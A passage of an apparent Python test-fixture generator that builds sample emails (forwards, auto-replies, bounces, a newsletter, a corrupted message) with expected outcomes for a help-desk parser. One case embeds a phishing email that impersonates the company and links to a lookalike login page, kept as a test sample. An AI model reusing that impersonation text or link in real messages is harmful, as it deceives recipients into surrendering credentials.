        f"Subject: {subject}",
        f"To: Soporte Pulso <{SUPPORT}>",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
    ]
    raw = entity(headers, gmail_alternative(boundary, plain, html_text))
    return raw, entry(
        file="16-gmail-internal-forward.eml",
        client="Gmail web (Google Workspace, pulso.example staff)",
        shape="multipart/alternative, UTF-8 QP, inline '---------- Forwarded message ---------'",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="valentina.rios@pulso.example",
        sender_name="Valentina Ríos",
        subject=subject,
        forwarded_from={"name": "Ramiro Quispe", "address": "ramiro.quispe@example.com"},
        body_must_contain=[
            "les reenvío el reclamo que llegó al buzón de ventas",
            "Hoy me llegaron dos cargos de USD 480",
            "Necesito que me devuelvan el segundo cargo cuanto antes.",
        ],
        notes=(
            "A forward, not a reply: the forwarded block (De:/Date:/Subject:/To: after the "
            "'---------- Forwarded message ---------' line) IS the case, so quote trimming must "
            "not cut it away. `sender` follows the manifest rule (From); a desk that opens "
            "staff forwards in the original customer's name should use `forwarded_from` "
            "(Ramiro Quispe <ramiro.quispe@example.com>). Subject prefix 'Fwd:'."
        ),
    )


@message
def outlook_forward_as_attachment():
    subject = "RV: Verifique su cuenta de inmediato"
    inner_html = (
        "<html><body><p>Estimado cliente:</p><p>Detectamos un acceso inusual. Su cuenta será "
        'suspendida en 24 horas si no verifica sus datos.</p><p><a href="https://pulso-'
        'verificacion.example.net/login">Verificar ahora</a></p><p>Equipo Pulso</p></body>'
        "</html>\n"
    )
    inner = to_crlf(
        entity(
            [
                "Received: from smtp.pulso-verificacion.example.net (198.51.100.23)",
                " by BY5PR04MB6843.namprd04.prod.outlook.com; Mon, 10 Mar 2025 07:55:13 +0000",
                "From: Pulso Seguridad <seguridad@pulso-verificacion.example.net>",
                "To: <gabriela.sanchez@example.org>",
                "Subject: Verifique su cuenta de inmediato",
                "Date: Mon, 10 Mar 2025 07:55:12 +0000",
                "Message-ID: <8f2d1c0b9a7e6f5d4c3b2a10@pulso-verificacion.example.net>",
                "MIME-Version: 1.0",
                'Content-Type: text/html; charset="utf-8"',
                "Content-Transfer-Encoding: quoted-printable",
            ],
            qp(inner_html),
        )
    )
    text = [
        "Hola, recibí este correo que dice ser de Pulso y me pide verificar mi contraseña. No "
        "hice clic en nada. ¿Es legítimo? Se los reenvío como adjunto para que lo revisen.",
        "",
        "Gabriela Sánchez",
        "Administración – Clínica Dental Sonrisas",
    ]
    plain = lines(*text, "")
    html_text = (
        OUTLOOK_HTML_HEAD.format(charset="iso-8859-1")
        + '<body lang="ES-MX" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
        + '<div class="WordSection1">\n'
        + mso_paragraphs(text, "ES-MX")
        + "</div>\n</body>\n</html>\n"
    )
    stem = "SA1PR04MB88762C5D7E9F1A3B4C6D8E0F2A4B6C8D"
    mixed, alternative = f"_004_{stem}SA1PR04MB8876namp_", f"_000_{stem}SA1PR04MB8876namp_"
    body = multipart(
        mixed,
        [
            entity(
                ["Content-Type: multipart/alternative;", f'\tboundary="{alternative}"'],
                b"\n"
                + multipart(
                    alternative,
                    [
                        entity(
                            [
                                'Content-Type: text/plain; charset="iso-8859-1"',
                                "Content-Transfer-Encoding: quoted-printable",
                            ],
                            qp(plain.replace("–", "-"), "iso-8859-1"),
                        ),
                        entity(
                            [
                                'Content-Type: text/html; charset="iso-8859-1"',
                                "Content-Transfer-Encoding: quoted-printable",
                            ],
                            qp(html_text.replace("–", "&#8211;"), "iso-8859-1"),
                        ),
                    ],
                ),
            ),
            entity(
                [
                    "Content-Type: message/rfc822",
                    "Content-Disposition: attachment;",
                    '\tcreation-date="Mon, 10 Mar 2025 14:18:50 GMT";',
                    '\tmodification-date="Mon, 10 Mar 2025 14:18:51 GMT"',
                ],
                inner,
            ),
        ],
    )
    message_id = f"{stem}@SA1PR04MB8876.namprd04.prod.outlook.com"
    headers = [
        f"From: {ew('Gabriela Sánchez', 'iso-8859-1')} <gabriela.sanchez@example.org>",
        f"To: Soporte Pulso <{SUPPORT}>",
        f"Subject: {subject}",
        "Thread-Topic: Verifique su cuenta de inmediato",
        f"Thread-Index: {thread_index('phish', replies=1)}",
        "Date: Mon, 10 Mar 2025 14:18:52 +0000",
        f"Message-ID: <{message_id}>",
        "Accept-Language: es-MX, en-US",
        "Content-Language: es-MX",
        "X-MS-Has-Attach: yes",
        "X-MS-TNEF-Correlator:",
        "Content-Type: multipart/mixed;",
        f'\tboundary="{mixed}"',
        "MIME-Version: 1.0",
    ]
    return entity(headers, b"\n" + body), entry(
        file="17-outlook-forward-as-attachment.eml",
        client="Outlook desktop (Microsoft 365), 'Forward as attachment'",
        shape="multipart/mixed { multipart/alternative (iso-8859-1 QP), message/rfc822 }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="gabriela.sanchez@example.org",
        sender_name="Gabriela Sánchez",
        subject=subject,
        forwarded_from={
            "name": "Pulso Seguridad",
            "address": "seguridad@pulso-verificacion.example.net",
        },
        body_must_contain=[
            "recibí este correo que dice ser de Pulso",
            "Se los reenvío como adjunto para que lo revisen.",
        ],
        attachments=[attachment(None, "message/rfc822", inner)],
        notes=(
            "Outlook puts no file name on the message/rfc822 part (filename null): a desk "
            "storing it needs a generated name, e.g. 'Verifique su cuenta de inmediato.eml'. "
            "The attached message is a phishing sample that impersonates Pulso: keep it as an "
            "attachment (size = the embedded message's bytes), never render its HTML or follow "
            "its link, and do not take its From as the customer. Its text may be added to the "
            "case as plain text ('Su cuenta será suspendida en 24 horas'), so it is in neither "
            "body list. Subject prefix 'RV:' (Spanish Outlook's forward)."
        ),
    )


@message
def exchange_out_of_office():
    original = "[PUL-000005] Recibimos tu caso: Error en el módulo de inventario"
    subject = f"Respuesta automática: {original}"
    text = lines(
        "Gracias por su mensaje.",
        "",
        "Estaré fuera de la oficina hasta el lunes 17 de marzo, sin acceso al correo. Para "
        "temas urgentes comuníquese con Julián Prieto (julian.prieto@example.org).",
        "",
        "Fernanda López",
        "",
    )
    html_text = (
        '<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
        "</head>\n<body>\n"
        + "".join(
            f"<div>{html.escape(line, quote=False) if line else '<br>'}</div>\n"
            for line in text.rstrip("\n").split("\n")
        )
        + "</body>\n</html>\n"
    )
    stem = "c8b3f1e2a4d54f6b9e0a1b2c3d4e5f67"
    boundary = f"_000_{stem}MN2PR05MB6781namprd05pro_"
    body = multipart(
        boundary,
        [
            entity(
                ['Content-Type: text/plain; charset="utf-8"', "Content-Transfer-Encoding: base64"],
                b64(text.replace("\n", "\r\n").encode()),
            ),
            entity(
                ['Content-Type: text/html; charset="utf-8"', "Content-Transfer-Encoding: base64"],
                b64(html_text.replace("\n", "\r\n").encode()),
            ),
        ],
    )
    message_id = f"{stem}@MN2PR05MB6781.namprd05.prod.outlook.com"
    headers = [
        f"From: {ew('Fernanda López', 'iso-8859-1')} <fernanda.lopez@example.org>",
        f"To: Soporte Pulso <{SUPPORT}>",
        f"Subject: {ew(subject, 'iso-8859-1')}",
        f"Thread-Topic: {ew(original, 'iso-8859-1')}",
        f"Thread-Index: {thread_index('pul-000005', replies=1)}",
        "Date: Tue, 11 Mar 2025 13:01:09 +0000",
        f"Message-ID: <{message_id}>",
        "References: <ack.pul-000005@pulso.example>",
        "In-Reply-To: <ack.pul-000005@pulso.example>",
        "Auto-Submitted: auto-replied",
        "X-MS-Has-Attach:",
        "X-MS-Exchange-Inbox-Rules-Loop: fernanda.lopez@example.org",
        "X-MS-TNEF-Correlator:",
        "X-Auto-Response-Suppress: All",
        "Content-Language: es-ES",
        "Content-Type: multipart/alternative;",
        f'\tboundary="{boundary}"',
        "MIME-Version: 1.0",
    ]
    return entity(headers, b"\n" + body), entry(
        file="18-exchange-out-of-office.eml",
        client="Exchange Online automatic reply (Out of Office)",
        shape="multipart/alternative, UTF-8 base64; Auto-Submitted: auto-replied",
        kind="auto",
        expected_outcome="ignored",
        message_id=message_id,
        sender="fernanda.lopez@example.org",
        sender_name="Fernanda López",
        subject=subject,
        thread_ref={"in_reply_to": "<ack.pul-000005@pulso.example>"},
        body_must_contain=["Estaré fuera de la oficina hasta el lunes 17 de marzo"],
        notes=(
            "Must not become a reply on PUL-000005 (even though the subject and In-Reply-To point "
            "there and the sender is that ticket's customer), must not reopen it, and must get "
            "no acknowledgement. Markers: Auto-Submitted: auto-replied, X-Auto-Response-Suppress: "
            "All, 'Respuesta automática:' prefix."
        ),
    )


@message
def gmail_vacation():
    subject = "De vacaciones hasta el 24 de marzo"
    paragraphs = [
        "Hola, estoy de vacaciones hasta el 24 de marzo con acceso limitado al correo.",
        "Responderé a su mensaje a mi regreso. Gracias.",
        "",
        "Carlos Medina",
    ]
    boundary = "000000000000b7f3e10630c2d4a8"
    message_id = "CAH5rTq8Wm1+Lp0vZ3eXcN7bF2yGkS9uJ4dH6aQiO_tRwE1nMs@mail.gmail.com"
    headers = [
        "MIME-Version: 1.0",
        "From: Carlos Medina <carlos.medina@example.com>",
        "Date: Tue, 11 Mar 2025 08:00:14 -0600",
        f"Message-ID: <{message_id}>",
        f"Subject: {subject}",
        f"To: {SUPPORT}",
        "In-Reply-To: <ack.pul-000010@pulso.example>",
        "References: <ack.pul-000010@pulso.example>",
        "Auto-Submitted: auto-replied",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
    ]
    raw = entity(
        headers, gmail_alternative(boundary, lines(*paragraphs, ""), gmail_html(paragraphs))
    )
    return raw, entry(
        file="19-gmail-vacation-responder.eml",
        client="Gmail vacation responder",
        shape="multipart/alternative, UTF-8 QP; Auto-Submitted: auto-replied, no Precedence",
        kind="auto",
        expected_outcome="ignored",
        message_id=message_id,
        sender="carlos.medina@example.com",
        sender_name="Carlos Medina",
        subject=subject,
        thread_ref={"in_reply_to": "<ack.pul-000010@pulso.example>"},
        body_must_contain=["estoy de vacaciones hasta el 24 de marzo"],
        notes="Only Auto-Submitted marks it (no Precedence, no X-Autoreply). No answer, no case.",
    )


@message
def x_autoreply_only():
    subject = "Recebemos sua mensagem - [PUL-000008] Recibimos tu caso: Pedido sem entrega"
    text = lines(
        "Olá!",
        "",
        "Recebemos sua mensagem e responderemos em até 48 horas úteis.",
        "Este é um e-mail automático, por favor não responda.",
        "",
        "Atendimento Loja Bella Casa",
        "",
    )
    message_id = "4e1f7a9c3b2d8e6f.1741786200@webmail.example.com"
    headers = [
        "Return-Path: <atendimento@example.com>",
        "Date: Wed, 12 Mar 2025 10:30:00 -0300",
        "From: Atendimento Loja Bella Casa <atendimento@example.com>",
        f"To: {SUPPORT}",
        f"Subject: {subject}",
        f"Message-ID: <{message_id}>",
        "X-Autoreply: yes",
        "X-Mailer: PHP/8.1.2-1ubuntu2.20",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=UTF-8",
        "Content-Transfer-Encoding: quoted-printable",
    ]
    return entity(headers, qp(text)), entry(
        file="20-x-autoreply-only.eml",
        client="Hosting-panel autoresponder (PHP), Portuguese",
        shape="single text/plain, UTF-8 QP; only X-Autoreply: yes marks it",
        kind="auto",
        expected_outcome="ignored",
        message_id=message_id,
        sender="atendimento@example.com",
        sender_name="Atendimento Loja Bella Casa",
        subject=subject,
        requires_ticket={"reference": "PUL-000008", "customer_email": "atendimento@example.com"},
        body_must_contain=["Recebemos sua mensagem e responderemos em até 48 horas úteis."],
        notes=(
            "Bait: the sender IS PUL-000008's customer and the subject carries the reference, "
            "so only the X-Autoreply header keeps it from threading (and from ping-ponging with "
            "the desk's acknowledgement). No Auto-Submitted, no Precedence."
        ),
    )


DJANGO_ACK_HEADERS = [
    'Content-Type: multipart/alternative; boundary="===============8307159217245811053=="',
    "MIME-Version: 1.0",
    "Subject: {subject}",
    "From: Pulso <soporte@pulso.example>",
    "To: {to}",
    "Date: {date}",
    "Message-ID: <{message_id}>",
    "X-Pulso-Ticket: {reference}",
    "Auto-Submitted: auto-generated",
]


@message
def postfix_bounce():
    original_subject = "[PUL-000009] Recibimos tu caso: Consulta por factura electrónica"
    original_id = "174179160212.4102.1534981237451238473@app01.pulso.example"
    notification = lines(
        "This is the mail system at host mx.example.net.",
        "",
        "I'm sorry to have to inform you that your message could not",
        "be delivered to one or more recipients. It's attached below.",
        "",
        "For further assistance, please send mail to postmaster.",
        "",
        "If you do so, please include this problem report. You can",
        "delete your own text from the attached returned message.",
        "",
        "                   The mail system",
        "",
        "<cliente.inexistente@example.net>: host mx.example.net[private/dovecot-lmtp]",
        "    said: 550 5.1.1 <cliente.inexistente@example.net> User doesn't exist:",
        "    cliente.inexistente@example.net (in reply to RCPT TO command)",
        "",
    )
    status = lines(
        "Reporting-MTA: dns; mx.example.net",
        "X-Postfix-Queue-ID: 4Z9k7Q2Xyqz3wT1",
        "X-Postfix-Sender: rfc822; soporte@pulso.example",
        "Arrival-Date: Wed, 12 Mar 2025 10:00:03 -0500 (-05)",
        "",
        "Final-Recipient: rfc822; cliente.inexistente@example.net",
        "Original-Recipient: rfc822;cliente.inexistente@example.net",
        "Action: failed",
        "Status: 5.1.1",
        "Remote-MTA: dns; mx.example.net",
        "Diagnostic-Code: smtp; 550 5.1.1 <cliente.inexistente@example.net> User doesn't",
        "    exist: cliente.inexistente@example.net",
        "",
    )
    returned = "\n".join(
        [
            "Return-Path: <soporte@pulso.example>",
            "Received: from app01.pulso.example (app01.pulso.example [192.0.2.10])",
            "\tby mx.pulso.example (Postfix) with ESMTPS id 4Z9k7P6f1Wz3wSx",
            "\tfor <cliente.inexistente@example.net>; Wed, 12 Mar 2025 10:00:02 -0500 (-05)",
        ]
        + [
            line.format(
                subject=ew(original_subject, "utf-8"),
                to="cliente.inexistente@example.net",
                date="Wed, 12 Mar 2025 15:00:02 -0000",
                message_id=original_id,
                reference="PUL-000009",
            )
            for line in DJANGO_ACK_HEADERS
        ]
        + [""]
    )
    boundary = "4Z9k7Q2Xyqz3wT1.1741791605/mx.example.net"
    body = multipart(
        boundary,
        [
            entity(
                [
                    "Content-Description: Notification",
                    "Content-Type: text/plain; charset=us-ascii",
                ],
                notification.encode(),
            ),
            entity(
                ["Content-Description: Delivery report", "Content-Type: message/delivery-status"],
                status.encode(),
            ),
            entity(
                [
                    "Content-Description: Undelivered Message Headers",
                    "Content-Type: text/rfc822-headers",
                    "Content-Transfer-Encoding: 8bit",
                ],
                returned.encode(),
            ),
        ],
        preamble="This is a MIME-encapsulated message.\n\n",
    )
    message_id = "20250312150005.4Z9k7Q2Xyqz3wT1@mx.example.net"
    headers = [
        "Return-Path: <>",
        f"Delivered-To: {SUPPORT}",
        "Received: by mx.example.net (Postfix)",
        "\tid 4Z9k7Q2Xyqz3wT1; Wed, 12 Mar 2025 10:00:05 -0500 (-05)",
        "Date: Wed, 12 Mar 2025 10:00:05 -0500 (-05)",
        "From: MAILER-DAEMON@mx.example.net (Mail Delivery System)",
        "Subject: Undelivered Mail Returned to Sender",
        f"To: {SUPPORT}",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status;",
        f'\tboundary="{boundary}"',
        "Content-Transfer-Encoding: 8bit",
        f"Message-Id: <{message_id}>",
    ]
    return entity(headers, b"\n" + body), entry(
        file="21-postfix-bounce.eml",
        client="Postfix (bounce daemon)",
        shape="multipart/report; report-type=delivery-status { text/plain, "
        "message/delivery-status, text/rfc822-headers }",
        kind="bounce",
        expected_outcome="ignored",
        message_id=message_id,
        sender="MAILER-DAEMON@mx.example.net",
        sender_name="Mail Delivery System",
        subject="Undelivered Mail Returned to Sender",
        body_must_contain=["your message could not", "550 5.1.1"],
        body_must_not_contain=[],
        bounce={
            "recipient": "cliente.inexistente@example.net",
            "status": "5.1.1",
            "original_message_id": original_id,
            "original_subject": original_subject,
        },
        notes=(
            "Never a case, never an answer (Return-Path <>, MAILER-DAEMON, Auto-Submitted, "
            "multipart/report all say so). The returned headers name PUL-000009 and the desk's "
            "own Message-ID: a desk may flag that customer's address as undeliverable, but must "
            "not add a reply to the ticket. Name comes from a comment: 'addr (Mail Delivery "
            "System)'."
        ),
    )


@message
def exchange_ndr():
    original_subject = "[PUL-000006] Recibimos tu caso: Alta de usuarios nuevos"
    subject = f"Undeliverable: {original_subject}"
    original_id = "174187451103.4102.9981726354412233445@app01.pulso.example"
    plain = lines(
        "Your message to ex.cliente@example.org couldn't be delivered.",
        "",
        "ex.cliente wasn't found at example.org.",
        "",
        "soporte      Office 365      ex.cliente",
        "Action Required                      Recipient",
        "",
        "Unknown To address",
        "",
        "How to Fix It",
        "The address may be misspelled or may not exist. Try one or more of the following:",
        "",
        "  *   Retype the recipient's address, then resend the message.",
        "",
        "More Info for Email Admins",
        "Status code: 550 5.1.10",
        "",
        "Original Message Details",
        "Created Date:    3/13/2025 4:44:18 PM",
        "Sender Address:  soporte@pulso.example",
        "Recipient Address:    ex.cliente@example.org",
        "Subject:    " + original_subject,
        "",
    )
    html_text = (
        '<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        '\n<style>.undeliverable{font-family:"Segoe UI",Frutiger,Arial,sans-serif}</style>\n'
        "</head>\n<body>\n"
        '<p class="undeliverable">Your message to <a href="mailto:ex.cliente@example.org">'
        "ex.cliente@example.org</a> couldn't be delivered.</p>\n"
        "<p>ex.cliente wasn't found at example.org.</p>\n"
        "<p><b>Status code:</b> 550 5.1.10</p>\n</body>\n</html>\n"
    )
    status = lines(
        "Reporting-MTA: dns;DM6PR03MB5114.namprd03.prod.outlook.com",
        "Received-From-MTA: dns;mx.pulso.example",
        "Arrival-Date: Thu, 13 Mar 2025 16:44:19 +0000",
        "",
        "Final-Recipient: rfc822;ex.cliente@example.org",
        "Action: failed",
        "Status: 5.1.10",
        "Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient",
        " ex.cliente@example.org not found by SMTP address lookup",
        "",
    )
    ack_text = "Hola, recibimos tu caso PUL-000006. Un agente lo revisará pronto.\n"
    inner_boundary = "===============8307159217245811053=="
    original = to_crlf(
        entity(
            [
                line.format(
                    subject=ew(original_subject, "utf-8"),
                    to="ex.cliente@example.org",
                    date="Thu, 13 Mar 2025 16:44:18 -0000",
                    message_id=original_id,
                    reference="PUL-000006",
                )
                for line in DJANGO_ACK_HEADERS
            ],
            b"\n"
            + multipart(
                inner_boundary,
                [
                    entity(
                        [
                            'Content-Type: text/plain; charset="utf-8"',
                            "MIME-Version: 1.0",
                            "Content-Transfer-Encoding: 8bit",
                        ],
                        ack_text.encode(),
                    ),
                    entity(
                        [
                            'Content-Type: text/html; charset="utf-8"',
                            "MIME-Version: 1.0",
                            "Content-Transfer-Encoding: 8bit",
                        ],
                        f"<p>{ack_text.strip()}</p>\n".encode(),
                    ),
                ],
            ),
        )
    )
    outer = "a7c1e2f3-b4d5-4e6f-8a9b-0c1d2e3f4a5b"
    alternative = "b8d2f3a4-c5e6-4f7a-9b0c-1d2e3f4a5b6c"
    body = multipart(
        outer,
        [
            entity(
                [
                    "Content-Type: multipart/alternative; differences=Content-Type;",
                    f'\tboundary="{alternative}"',
                ],
                b"\n"
                + multipart(
                    alternative,
                    [
                        entity(
                            [
                                'Content-Type: text/plain; charset="us-ascii"',
                                "Content-Transfer-Encoding: quoted-printable",
                            ],
                            qp(plain, "us-ascii"),
                        ),
                        entity(
                            [
                                'Content-Type: text/html; charset="utf-8"',
                                "Content-Transfer-Encoding: quoted-printable",
                            ],
                            qp(html_text),
                        ),
                    ],
                ),
            ),
            entity(["Content-Type: message/delivery-status"], status.encode()),
            entity(["Content-Type: message/rfc822"], original),
        ],
    )
    message_id = "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d@DM6PR03MB5114.namprd03.prod.outlook.com"
    headers = [
        "From: Microsoft Outlook",
        "\t<postmaster@outlook.example.com>",
        f"To: <{SUPPORT}>",
        "Date: Thu, 13 Mar 2025 16:44:21 +0000",
        "Content-Type: multipart/report; report-type=delivery-status;",
        f'\tboundary="{outer}"',
        "X-MS-Exchange-Message-Is-Ndr:",
        "Content-Language: en-US",
        f"Message-ID: <{message_id}>",
        f"In-Reply-To: <{original_id}>",
        f"References: <{original_id}>",
        f"Thread-Topic: {ew(original_subject, 'utf-8')}",
        f"Thread-Index: {thread_index('ndr-pul-000006')}",
        f"Subject: Undeliverable: {ew(original_subject, 'utf-8')}",
        "MIME-Version: 1.0",
    ]
    return entity(headers, b"\n" + body), entry(
        file="22-exchange-ndr.eml",
        client="Exchange Online NDR",
        shape="multipart/report { multipart/alternative, message/delivery-status, message/rfc822 }",
        kind="bounce",
        expected_outcome="ignored",
        message_id=message_id,
        sender="postmaster@outlook.example.com",
        sender_name="Microsoft Outlook",
        subject=subject,
        thread_ref={"in_reply_to": f"<{original_id}>"},
        body_must_contain=["Your message to ex.cliente@example.org couldn't be delivered."],
        bounce={
            "recipient": "ex.cliente@example.org",
            "status": "5.1.10",
            "original_message_id": original_id,
            "original_subject": original_subject,
        },
        notes=(
            "No Auto-Submitted header here: it is recognised by multipart/report, the "
            "postmaster@ sender, X-MS-Exchange-Message-Is-Ndr or 'Undeliverable:'. Its subject "
            "carries [PUL-000006] and In-Reply-To the desk's own Message-ID: never a reply on "
            "the ticket. The original message comes back whole as message/rfc822."
        ),
    )


@message
def newsletter():
    subject = "📈 5 métricas de soporte que importan en 2025"
    paragraphs = [
        "Revista Soporte Hoy · Edición de marzo",
        "",
        "Las 5 métricas de soporte que importan en 2025: tiempo de primera respuesta, "
        "resolución al primer contacto, CSAT, NPS y esfuerzo del cliente.",
        "",
        "Leer el artículo: https://news.example.org/r/5-metricas",
        "",
        "Recibe este boletín porque se suscribió en news.example.org.",
        "Darse de baja: https://news.example.org/unsubscribe?u=abc123&id=def456",
    ]
    plain = lines(*paragraphs, "")
    html_text = (
        '<!doctype html><html><head><meta charset="UTF-8"><title>Revista Soporte Hoy</title>'
        "<style>#bodyTable{background:#fafafa}.mcnTextContent{font-family:Georgia,serif}"
        '</style></head><body><center><table id="bodyTable" width="100%"><tr><td '
        'class="mcnTextContent"><h1>Las 5 métricas de soporte que importan en 2025</h1><p>'
        "Tiempo de primera respuesta, resolución al primer contacto, CSAT, NPS y esfuerzo del "
        'cliente.</p><p><a href="https://news.example.org/r/5-metricas">Leer el artículo</a>'
        '</p><p><a href="https://news.example.org/unsubscribe?u=abc123&amp;id=def456">Darse de '
        'baja</a></p><img src="https://news.example.org/track/open.php?u=abc123&amp;id=def456" '
        'height="1" width="1"></td></tr></table></center></body></html>\n'
    )
    boundary = "_----------=_MCPart_1876543210"
    body = multipart(
        boundary,
        [
            entity(
                [
                    'Content-Type: text/plain; charset="utf-8"; format="fixed"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(plain),
            ),
            entity(
                [
                    'Content-Type: text/html; charset="utf-8"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(html_text),
            ),
        ],
        preamble="This is a multi-part message in MIME format\n\n",
    )
    message_id = "c2d9e1f0a3b4c5d6e7f8a9b0c1d2e3f4.1741867241@mail123.suw11.mcsv.example.net"
    headers = [
        "Return-Path: <bounce-mc.us21_12345678.1234567-7a8b9c@mail123.suw11.mcsv.example.net>",
        "From: Revista Soporte Hoy <boletin@news.example.org>",
        "Reply-To: Revista Soporte Hoy <boletin@news.example.org>",
        f"To: <{SUPPORT}>",
        f"Subject: {ew(subject, 'utf-8')}",
        "Date: Thu, 13 Mar 2025 12:00:41 +0000",
        f"Message-ID: <{message_id}>",
        "X-Mailer: Mailchimp Mailer - **CIDa1b2c3d4e5f6a7b8c9d0**",
        "X-Campaign: mailchimpa1b2c3d4e5f6a7b8c9d0.def456",
        "X-campaignid: mailchimpa1b2c3d4e5f6a7b8c9d0.def456",
        "X-Report-Abuse: Please report abuse for this campaign here:",
        " https://news.example.org/abuse?u=abc123&id=def456&e=7a8b9c",
        "X-MC-User: abc123",
        "Feedback-ID: 21:21.1234567:us21:mc",
        "List-ID: abc123def456 list <abc123def456.1234567.list-id.mcsv.example.net>",
        "X-Accounttype: ff",
        "List-Unsubscribe: <https://news.example.org/unsubscribe?u=abc123&id=def456&e=7a8b9c>,",
        " <mailto:unsubscribe-abc123.def456-7a8b9c@unsubscribe.mcsv.example.net"
        "?subject=unsubscribe>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "Precedence: bulk",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
    ]
    return entity(headers, b"\n" + body), entry(
        file="23-newsletter-bulk.eml",
        client="Mailchimp (newsletter)",
        shape="multipart/alternative, UTF-8 QP; Precedence: bulk, List-Id, List-Unsubscribe",
        kind="bulk",
        expected_outcome="ignored",
        message_id=message_id,
        sender="boletin@news.example.org",
        sender_name="Revista Soporte Hoy",
        subject=subject,
        body_must_contain=["Las 5 métricas de soporte que importan en 2025"],
        notes=(
            "Never a case, never an acknowledgement (would also confirm the address to the "
            "list). Subject starts with a 4-byte UTF-8 emoji. Reply-To equals From."
        ),
    )


MALFORMED_TEXT = lines(
    "Buenos días:",
    "",
    "No puedo descargar el comprobante de pago del pedido 8812 desde el portal.",
    "El sistema muestra una página en blanco y después cierra la sesión.",
    "Les mando más detalles en el siguiente mensaje.",
    "",
    "Saludos,",
    "Hernán Ortiz",
    "",
)


def malformed_base64() -> bytes:
    """The text's base64 damaged the way relays and broken gateways damage it: two good
    lines, a line of transmission noise (partly in the base64 alphabet), a line that lost a
    character (everything after it decodes to noise), a tail cut off with impossible padding."""
    encoded = b64(MALFORMED_TEXT.replace("\n", "\r\n").encode()).split(b"\n")
    damaged = encoded[:2]
    damaged.append(b"%%%~~ ##!! (tr@nsmission err0r) ~~%%%")
    damaged.append(encoded[2][:30] + encoded[2][31:])
    damaged.extend(encoded[3:-1])
    damaged.append(encoded[-1][:-5] + b"=A=")
    return b"\n".join(damaged)


@message
def malformed():
    subject = "Problema con el comprobante de pago"
    boundary = "----=_NextPart_000_000E_01DB8E61.16D8B240"
    truncated_html = qp(
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
        "</head><body><p>Buenos días:</p><p>No puedo descargar el comprobante de pago del "
        "pedido 8812 desde el portal.</p><p>El sistema muestra una página en bl"
    )
    body = multipart(
        boundary,
        [
            entity(
                [
                    "Content-Type: text/plain;",
                    '\tcharset="utf-8"',
                    "Content-Transfer-Encoding: base64",
                ],
                malformed_base64() + b"\n",
            ),
            entity(
                [
                    "Content-Type: text/html;",
                    '\tcharset="utf-8"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                truncated_html,
            ),
        ],
        preamble="This is a multi-part message in MIME format.\n\n",
        close=False,
    )
    message_id = "000d01db8e7a$3c1f2a40$b45d7ec0$@example.net"
    headers = [
        "From: =?utf-8?Q?Hern=C3=A1n_Ortiz?= <hernan.ortiz@example.net>",
        f"To: <{SUPPORT}>",
        f"Subject: {subject}",
        "Date: Thu, 6 Mar 2025 08:14:33 -0300",
        f"Message-ID: <{message_id}>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/alternative;",
        f'\tboundary="{boundary}"',
        "X-Mailer: Microsoft Office Outlook 12.0",
        "Content-Language: es-ar",
        f"Thread-Index: {thread_index('malformed')}",
    ]
    return entity(headers, b"\n" + body), entry(
        file="24-malformed-truncated-base64.eml",
        client="Outlook 2007 message damaged in transit",
        shape="multipart/alternative without closing boundary; base64 with garbage, a lost "
        "character and bad padding; QP HTML cut off mid-word",
        kind="malformed",
        expected_outcome="created",
        message_id=message_id,
        sender="hernan.ortiz@example.net",
        sender_name="Hernán Ortiz",
        subject=subject,
        body_must_contain=[
            "Buenos días:",
            "No puedo descargar el comprobante de pago del pedido 8812",
        ],
        readable_text=None,  # filled in by build() from what the standard library decodes
        notes=(
            "Lenient reading keeps the first 114 decoded bytes of the plain part intact ('Buenos "
            "días:' and the sentence about pedido 8812); the noise line and the line that lost a "
            "character turn the rest into noise (U+FFFD and mojibake). `readable_text` is what "
            "CPython's policy.default yields for the plain part (defects: invalid base64 "
            "characters and padding, missing closing boundary). The truncated HTML part still "
            "holds 'No puedo descargar el comprobante de pago del pedido 8812 desde el portal.' A"
            " desk may also quarantine it; it must not crash."
        ),
    )


@message
def no_from():
    subject = "Consulta desde el formulario web"
    text = lines(
        "Nombre: Jimena Ruiz",
        "Correo: jimena.ruiz@example.com",
        "Teléfono: +52 55 5555 0199",
        "",
        "Mensaje:",
        "Quisiera una demostración del módulo de encuestas para nuestro equipo de 12 agentes.",
        "",
    )
    message_id = "20250307090002.3F2A1C@web01.example.com"
    headers = [
        "Date: Fri, 7 Mar 2025 03:00:02 -0600",
        f"To: {SUPPORT}",
        f"Subject: {subject}",
        f"Message-ID: <{message_id}>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=UTF-8",
        "Content-Transfer-Encoding: 8bit",
        "X-Mailer: FormMail 1.92",
    ]
    return entity(headers, text.encode()), entry(
        file="25-no-from-header.eml",
        client="Website form script (FormMail) that forgot the From header",
        shape="single text/plain, UTF-8 8bit; no From, no Reply-To, no Sender, no Return-Path",
        kind="no-sender",
        expected_outcome="quarantined",
        message_id=message_id,
        sender=None,
        sender_name="",
        subject=subject,
        body_must_contain=["Quisiera una demostración del módulo de encuestas"],
        notes=(
            "Quarantine with a reason ('no sender address'). The address in the body "
            "(jimena.ruiz@example.com) must NOT be taken as the sender."
        ),
    )


@message
def reply_to_differs():
    subject = "[PUL-000007] Sigo sin poder entrar al portal"
    paragraphs = [
        "Hola,",
        "",
        "Les escribo desde mi correo personal porque con el de la empresa no puedo entrar al "
        "portal. Sigo viendo el mensaje «Cuenta bloqueada por intentos fallidos» aunque ayer me "
        "dijeron que ya estaba desbloqueada.",
        "",
